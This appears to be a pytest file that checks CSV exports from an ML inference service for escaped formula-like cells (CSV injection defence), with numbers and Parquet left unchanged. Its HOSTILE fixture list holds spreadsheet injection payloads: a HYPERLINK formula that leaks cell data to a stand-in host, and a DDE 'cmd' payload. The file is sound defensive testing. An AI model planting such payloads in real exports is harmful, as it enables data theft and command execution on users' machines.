"""CSV outputs for spreadsheets: formula-like text escaped, numbers and Parquet unchanged."""

from __future__ import annotations

import csv
import io
import zipfile

import numpy as np
import pandas as pd
import pytest
from fastapi.testclient import TestClient

from modalfuse.config import Settings
from modalfuse.inference.batch import predict_file
from modalfuse.inference.safe_csv import escape_cell, escape_frame, write_csv
from modalfuse.serve.app import create_app
from prod_helpers import API_KEY, AUTH, job_inputs, wait_for

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_like_text_gets_a_leading_quote(cell):
    assert escape_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Mon1", "", " =1", "a=b", "-5", "+1.5e3", "-.5", 3, -5,
                                  -2.5, None, np.nan])
def test_other_cells_are_left_alone(cell):
    out = escape_cell(cell)
    assert out is cell or out == cell


def test_text_columns_and_names_are_escaped_numeric_columns_are_not():
    frame = pd.DataFrame({"id": ["=1+1", "-5", "ok"], "score": [-5, -1.5, 2.0],
                          "kind": pd.Categorical(["@x", "y", "@x"]),
                          "text": pd.array(["-cmd", None, "b"], dtype="string"),
                          "=name": [1, 2, 3]})
    out = escape_frame(frame)
    assert out["id"].tolist() == ["'=1+1", "-5", "ok"]
    assert out["score"].tolist() == [-5, -1.5, 2.0] and out["score"].dtype == frame["score"].dtype
    assert out["kind"].tolist() == ["'@x", "y", "'@x"]
    assert out["text"].tolist()[0] == "'-cmd" and pd.isna(out["text"].tolist()[1])
    assert list(out.columns) == ["id", "score", "kind", "text", "'=name"]
    assert frame["id"].tolist() == ["=1+1", "-5", "ok"]  # the input is not changed

    buf = io.StringIO()
    write_csv(frame, buf)
    rows = list(csv.reader(io.StringIO(buf.getvalue())))
    assert rows[0] == ["id", "score", "kind", "text", "'=name"]
    assert rows[1] == ["'=1+1", "-5.0", "'@x", "'-cmd", "1"]
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for r in rows for c in r)


def test_batch_predict_csv_is_escaped_and_parquet_is_not(predictor, fixture_dataset, tmp_path):
    spec = fixture_dataset.spec
    rows = fixture_dataset.table.drop(columns=[spec.target]).head(4).copy()
    rows[spec.id_column] = [HOSTILE[0], "-5", "@SUM(A1:A9)", "7"]
    src = tmp_path / "rows.csv"
    rows.to_csv(src, index=False)
    predict_file(predictor, src, fixture_dataset.image_dir, tmp_path / "out.csv")
    predict_file(predictor, src, fixture_dataset.image_dir, tmp_path / "out.parquet")

    with open(tmp_path / "out.csv", newline="") as f:
        cells = list(csv.DictReader(f))
    assert [r[spec.id_column] for r in cells] == ["'" + HOSTILE[0], "-5", "'@SUM(A1:A9)", "7"]
    proba = [c for c in cells[0] if c.startswith("proba_")]
    assert all(float(r[c]) >= 0 for r in cells for c in proba)  # numbers stay numbers
    plain = pd.read_parquet(tmp_path / "out.parquet")
    assert plain[spec.id_column].tolist() == [HOSTILE[0], "-5", "@SUM(A1:A9)", "7"]


def test_ui_batch_download_is_escaped(predictor, fixture_dataset, tmp_path):
    from modalfuse.ui.app import score_upload  # gradio is heavy: only this test needs it

    spec = fixture_dataset.spec
    rows = fixture_dataset.table.drop(columns=[spec.target]).head(2).copy()
    rows[spec.id_column] = [HOSTILE[0], "+cmd"]
    table = tmp_path / "rows.csv"
    rows.to_csv(table, index=False)
    archive = tmp_path / "images.zip"
    with zipfile.ZipFile(archive, "w") as z:
        for name in rows[spec.image_column]:
            z.writestr(name, fixture_dataset.image_bytes(name))
    _, out, _ = score_upload(predictor, str(table), str(archive), tmp_path / "out")
    assert out is not None
    result = pd.read_csv(out)
    assert result[spec.id_column].tolist() == ["'" + HOSTILE[0], "'+cmd"]
    assert result["predicted"].notna().all()


def test_job_result_csv_is_escaped(predictor, fixture_dataset, tmp_path):
    spec = fixture_dataset.spec
    _, images, table = job_inputs(fixture_dataset, 3)
    table[spec.id_column] = ["=1+1", "-5", "@A1"]
    settings = Settings(data_dir=tmp_path, api_key=API_KEY)
    with TestClient(create_app(settings, predictor=predictor)) as client:
        r = client.post("/v1/jobs", headers=AUTH, files={
            "table": ("rows.csv", table.to_csv(index=False).encode(), "text/csv"),
            "images": ("images.zip", images, "application/zip")})
        assert r.status_code == 201, r.text
        job = wait_for(client.get, r.json()["id"])
        assert job["state"] == "succeeded", job
        as_csv = client.get(job["result_url"], params={"format": "csv"}, headers=AUTH)
        as_parquet = client.get(job["result_url"], headers=AUTH)
    got = pd.read_csv(io.StringIO(as_csv.text), dtype={spec.id_column: str})
    assert got[spec.id_column].tolist() == ["'=1+1", "-5", "'@A1"]
    assert pd.read_parquet(io.BytesIO(as_parquet.content))[spec.id_column].tolist() == [
        "=1+1", "-5", "@A1"]
